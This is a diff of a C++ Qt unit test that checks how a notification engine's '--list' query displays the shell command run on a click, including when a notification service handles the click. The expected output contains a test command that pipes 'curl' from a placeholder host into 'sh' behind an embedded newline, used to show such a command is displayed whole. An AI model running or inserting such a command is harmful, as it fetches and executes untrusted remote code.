@@ -455,8 +455,11 @@ void TestEngine::queryProgramShowsWhatTheCycleWrote()
     }
     QCOMPARE(queued, QStringList({"9 closed 1", "1 received 0", "3 received 0", "1 shown 0",
                                   "1 closed 0"}));
-    // The readable form: 80 columns, the store's control characters defused.
+    // The readable form: 80 columns, the store's control characters defused. A notification
+    // service that runs the hint's command is left the click, and the command is shown.
+    m_notifications->setExtraCapabilities({"x-quorin-action-default"});
     run = testing::runQuery({"--list"});
+    m_notifications->setExtraCapabilities({});
     const QStringList lines = QString::fromUtf8(run.out).split(u'\n', Qt::SkipEmptyParts);
     QCOMPARE(lines.size(), 2 + 2 * 2 + 2);
     for (const QString& line : lines) {
@@ -465,8 +468,9 @@ void TestEngine::queryProgramShowsWhatTheCycleWrote()
     }
     // What a click runs, whole and as a shell reads it.
     QCOMPARE(lines.at(5).trimmed() + lines.at(6).trimmed() + lines.at(7).trimmed(),
-             "on click: /bin/bash -c $'echo a\\ncurl https://x.test/" + QString(90, u'y') +
-                 " | sh'");
+             "on click: left to the notification service, which runs /bin/bash -c $'echo "
+             "a\\ncurl https://x.test/" +
+                 QString(90, u'y') + " | sh'");
 }
 
 // Switched off, a call does nothing at all; switched on, the next cycle goes on where it stopped.
